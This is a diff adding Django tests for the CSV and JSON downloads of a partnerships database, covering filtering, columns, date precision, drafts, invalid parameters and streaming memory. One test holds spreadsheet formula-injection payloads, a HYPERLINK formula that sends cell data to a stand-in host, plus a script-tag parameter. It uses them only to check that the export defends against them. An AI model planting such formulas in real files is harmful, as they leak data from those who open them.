@@ -1,0 +1,381 @@
+"""Downloads: every row of the filtered list, stable columns, safe cells, published only."""
+
+import csv
+import datetime
+import io
+import json
+import tracemalloc
+
+import pytest
+from django.http import StreamingHttpResponse
+from django.utils import timezone
+
+from partnerships.models import (
+    Agreement,
+    AgreementKind,
+    AgreementParty,
+    AgreementStatus,
+    DatePrecision,
+)
+from partnerships.views import PAGE_SIZE
+from tests.factories import (
+    AgreementFactory,
+    DraftAgreementFactory,
+    FocusAreaFactory,
+    InstitutionFactory,
+)
+
+AGREEMENT_COLUMNS = [
+    "slug",
+    "title",
+    "kind",
+    "kind_label",
+    "signed_on",
+    "signed_on_precision",
+    "place",
+    "city",
+    "term_months",
+    "party_names",
+    "party_slugs",
+    "field_names",
+    "field_slugs",
+    "established_bodies",
+    "summary",
+    "source_titles",
+    "source_urls",
+    "published_at",
+    "url",
+]
+INSTITUTION_COLUMNS = [
+    "slug",
+    "name",
+    "kind",
+    "kind_label",
+    "other_names",
+    "city",
+    "region",
+    "country",
+    "website",
+    "ror_id",
+    "wikidata_id",
+    "agreement_count",
+    "url",
+]
+PERSON_COLUMNS = [
+    "slug",
+    "name",
+    "family_name",
+    "given_name",
+    "name_order",
+    "native_name",
+    "honorifics",
+    "positions",
+    "position_institution_slugs",
+    "agreement_count",
+    "url",
+]
+FIELD_COLUMNS = [
+    "slug",
+    "name",
+    "parent_slug",
+    "parent_name",
+    "description",
+    "agreement_count",
+    "url",
+]
+
+
+def read_csv(response):
+    assert isinstance(response, StreamingHttpResponse)
+    text = b"".join(response.streaming_content).decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.DictReader(io.StringIO(text[1:])))
+
+
+def read_json(response):
+    assert isinstance(response, StreamingHttpResponse)
+    return json.loads(b"".join(response.streaming_content))
+
+
+def listed_slugs(client, path, query=""):
+    """Slugs of every row the HTML list shows under ``query``, across all its pages."""
+    response = client.get(f"{path}?{query}")
+    assert response.status_code == 200
+    return [record.slug for record in response.context["page_obj"].paginator.object_list]
+
+
+@pytest.fixture
+def many_agreements(curated):
+    """More medical-AI agreements than fit on one page of the list."""
+    field = FocusAreaFactory(slug="medical-ai-extra", name="Medical AI (extra)")
+    hospital = InstitutionFactory(slug="test-hospital", kind="hospital")
+    university = InstitutionFactory(slug="test-university")
+    for number in range(PAGE_SIZE + 5):
+        AgreementFactory(
+            slug=f"ai-agreement-{number:02d}",
+            title=f"Medical AI agreement {number:02d}",
+            signed_on=datetime.date(2020 + number % 4, 1 + number % 12, 1),
+            parties=[university, hospital],
+            fields=[field],
+        )
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "",
+        "field=medical-ai-extra",
+        "field=medical-ai-extra&sort=title",
+        "year=2021&year=2022&sort=oldest",
+        "institution=pumch",
+        "institution_kind=hospital&kind=strategic_cooperation",
+        "q=Tianjin",
+        "q=Medical+AI+agreement",
+        "signed_from=2021-01-01&signed_to=2022-06-30",
+    ],
+)
+def test_agreement_download_has_every_row_the_filtered_list_shows(client, many_agreements, query):
+    expected = listed_slugs(client, "/agreements/", query)
+
+    rows = read_csv(client.get(f"/agreements/export.csv?{query}"))
+    records = read_json(client.get(f"/agreements/export.json?{query}"))
+
+    assert [row["slug"] for row in rows] == expected
+    assert [record["slug"] for record in records] == expected
+
+
+def test_a_download_is_not_limited_to_one_page(client, many_agreements):
+    rows = read_csv(client.get("/agreements/export.csv?field=medical-ai-extra&page=2"))
+
+    assert len(rows) == PAGE_SIZE + 5
+
+
+@pytest.mark.parametrize(
+    ("path", "query"),
+    [
+        ("/institutions/", ""),
+        ("/institutions/", "kind=hospital&sort=agreements"),
+        ("/institutions/", "q=PUMCH"),
+        ("/people/", ""),
+        ("/people/", "role=signed&institution=pumch"),
+        ("/fields/", ""),
+        ("/fields/", "q=medical"),
+    ],
+)
+def test_other_downloads_have_every_row_the_filtered_list_shows(client, curated, path, query):
+    expected = listed_slugs(client, path, query)
+
+    rows = read_csv(client.get(f"{path}export.csv?{query}"))
+    records = read_json(client.get(f"{path}export.json?{query}"))
+
+    assert expected
+    assert [row["slug"] for row in rows] == expected
+    assert [record["slug"] for record in records] == expected
+
+
+@pytest.mark.parametrize(
+    ("path", "columns"),
+    [
+        ("/agreements/export.csv", AGREEMENT_COLUMNS),
+        ("/institutions/export.csv", INSTITUTION_COLUMNS),
+        ("/people/export.csv", PERSON_COLUMNS),
+        ("/fields/export.csv", FIELD_COLUMNS),
+    ],
+)
+def test_csv_column_names_are_stable(client, curated, path, columns):
+    response = client.get(path)
+    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+    assert header == ["\ufeff" + columns[0], *columns[1:]]
+
+
+@pytest.mark.parametrize(
+    ("path", "columns"),
+    [
+        ("/agreements/export.json", AGREEMENT_COLUMNS),
+        ("/institutions/export.json", INSTITUTION_COLUMNS),
+        ("/people/export.json", PERSON_COLUMNS),
+        ("/fields/export.json", FIELD_COLUMNS),
+    ],
+)
+def test_json_records_have_the_csv_columns_as_keys(client, curated, path, columns):
+    records = read_json(client.get(path))
+
+    assert records
+    assert all(list(record) == columns for record in records)
+
+
+def test_downloads_are_streamed_attachments(client, curated):
+    for fmt, content_type in (("csv", "text/csv"), ("json", "application/json")):
+        response = client.get(f"/agreements/export.{fmt}")
+
+        assert isinstance(response, StreamingHttpResponse)
+        assert response["Content-Type"].startswith(content_type)
+        assert response["Content-Disposition"] == f'attachment; filename="agreements.{fmt}"'
+
+
+def test_agreement_rows_give_dates_with_their_precision(client, curated):
+    rows = {row["slug"]: row for row in read_csv(client.get("/agreements/export.csv"))}
+
+    undated_day = rows["hkust-pumch-strategic-cooperation-2024"]
+    assert (undated_day["signed_on"], undated_day["signed_on_precision"]) == ("2024", "year")
+    tianjin = rows["tju-tijmu-strategic-cooperation-2017"]
+    assert (tianjin["signed_on"], tianjin["signed_on_precision"]) == ("2017-08-23", "day")
+
+
+def test_agreement_rows_name_parties_and_fields_with_their_slugs(client, curated):
+    records = {r["slug"]: r for r in read_json(client.get("/agreements/export.json"))}
+    rows = {r["slug"]: r for r in read_csv(client.get("/agreements/export.csv"))}
+
+    record = records["hkust-pumch-strategic-cooperation-2024"]
+    assert record["party_slugs"] == ["hkust", "pumch"]
+    assert record["party_names"] == [
+        "Hong Kong University of Science and Technology",
+        "Peking Union Medical College Hospital",
+    ]
+    assert rows[record["slug"]]["party_slugs"] == "hkust; pumch"
+    assert "medical-education" in record["field_slugs"]
+    assert record["url"] == "http://testserver/agreements/hkust-pumch-strategic-cooperation-2024/"
+    assert record["source_titles"]
+
+
+def test_month_precision_is_written_as_year_and_month(client, db):
+    AgreementFactory(
+        slug="month-only",
+        signed_on=datetime.date(2023, 12, 1),
+        signed_on_precision=DatePrecision.MONTH,
+    )
+
+    (row,) = read_csv(client.get("/agreements/export.csv"))
+
+    assert (row["signed_on"], row["signed_on_precision"]) == ("2023-12", "month")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_that_would_start_a_formula_are_neutralised(client, db, start):
+    name = f'{start}HYPERLINK("http://example.com/?leak="&A1,"Click")'
+    evil = InstitutionFactory(slug="evil", name=name)
+    AgreementFactory(slug="with-evil-party", parties=[evil, InstitutionFactory()])
+
+    (institution,) = [
+        r for r in read_csv(client.get("/institutions/export.csv")) if r["slug"] == "evil"
+    ]
+    (agreement,) = read_csv(client.get("/agreements/export.csv"))
+
+    assert institution["name"] == "'" + name
+    assert agreement["party_names"].startswith("'" + start)
+
+
+def test_json_downloads_keep_values_as_they_are(client, db):
+    name = '=HYPERLINK("http://example.com")'
+    InstitutionFactory(slug="evil", name=name)
+
+    (record,) = read_json(client.get("/institutions/export.json"))
+
+    assert record["name"] == name
+
+
+def test_draft_agreements_are_never_downloaded(client, admin_client, curated):
+    institution = InstitutionFactory(slug="draft-party")
+    DraftAgreementFactory(slug="secret-draft", title="Secret draft", parties=[institution])
+
+    for browser in (client, admin_client):
+        rows = read_csv(browser.get("/agreements/export.csv"))
+        records = read_json(browser.get("/agreements/export.json?q=Secret"))
+        assert "secret-draft" not in {row["slug"] for row in rows}
+        assert records == []
+    (party,) = [
+        r for r in read_csv(client.get("/institutions/export.csv")) if r["slug"] == "draft-party"
+    ]
+    assert party["agreement_count"] == "0"
+
+
+@pytest.mark.parametrize(
+    ("query", "parameter"),
+    [
+        ("year=abc", "year"),
+        ("institution=%3Cscript%3E", "institution"),
+        ("q=" + "x" * 500, "q"),
+        ("q=a%00b", "q"),
+        ("sort=sideways", "sort"),
+        ("signed_from=yesterday", "signed_from"),
+    ],
+)
+def test_an_invalid_parameter_is_a_400_naming_it(client, curated, query, parameter):
+    response = client.get(f"/agreements/export.csv?{query}")
+
+    assert response.status_code == 400
+    assert response["Content-Type"] == "application/json"
+    assert parameter in response.json()["errors"]
+
+
+def test_list_pages_link_to_downloads_of_the_same_rows(client, curated):
+    response = client.get("/agreements/?field=medical-education&sort=title&page=1&year=abc")
+    html = response.content.decode()
+
+    assert 'href="/agreements/export.csv?field=medical-education&amp;sort=title"' in html
+    assert 'href="/agreements/export.json?field=medical-education&amp;sort=title"' in html
+
+
+@pytest.mark.parametrize("path", ["/institutions/", "/people/", "/fields/"])
+def test_every_list_page_links_to_its_downloads(client, curated, path):
+    html = client.get(f"{path}?q=medical").content.decode()
+
+    assert f'href="{path}export.csv?q=medical"' in html
+    assert f'href="{path}export.json?q=medical"' in html
+
+
+ROWS = 20_000
+
+
+@pytest.fixture
+def twenty_thousand_agreements(db):
+    """20,000 published agreements with two parties each, inserted in bulk."""
+    first, second = InstitutionFactory(), InstitutionFactory(kind="hospital")
+    now = timezone.now()
+    agreements = Agreement.objects.bulk_create(
+        [
+            Agreement(
+                slug=f"bulk-agreement-{number:05d}",
+                title=f"Strategic cooperation agreement number {number:05d}",
+                kind=AgreementKind.STRATEGIC_COOPERATION,
+                signed_on=datetime.date(2000 + number % 25, 1 + number % 12, 1 + number % 28),
+                signed_on_precision=DatePrecision.DAY,
+                summary="The parties will cooperate in research, education and care. " * 3,
+                status=AgreementStatus.PUBLISHED,
+                published_at=now,
+            )
+            for number in range(ROWS)
+        ],
+        batch_size=2000,
+    )
+    AgreementParty.objects.bulk_create(
+        [
+            AgreementParty(agreement=agreement, institution=institution, order=order)
+            for agreement in agreements
+            for order, institution in enumerate((first, second))
+        ],
+        batch_size=4000,
+    )
+
+
+def test_a_large_download_streams_in_flat_memory(client, twenty_thousand_agreements):
+    # A first, empty download: what it imports and caches once is not the export's cost.
+    b"".join(client.get("/agreements/export.csv?year=1900").streaming_content)
+    tracemalloc.start()
+    try:
+        response = client.get("/agreements/export.csv")
+        lines = 0
+        largest_chunk = 0
+        for chunk in response.streaming_content:
+            lines += chunk.count(b"\r\n")
+            largest_chunk = max(largest_chunk, len(chunk))
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+
+    assert lines == ROWS + 1  # The header, then one line per agreement.
+    assert largest_chunk < 1_000_000
+    # The CSV alone is ~8 MB and 20,000 agreements with their parties several times that
+    # as objects; read and prefetched in chunks, the peak stays near 13 MB.
+    assert peak < 30 * 1024 * 1024, f"peak memory {peak / 1024 / 1024:.1f} MB"
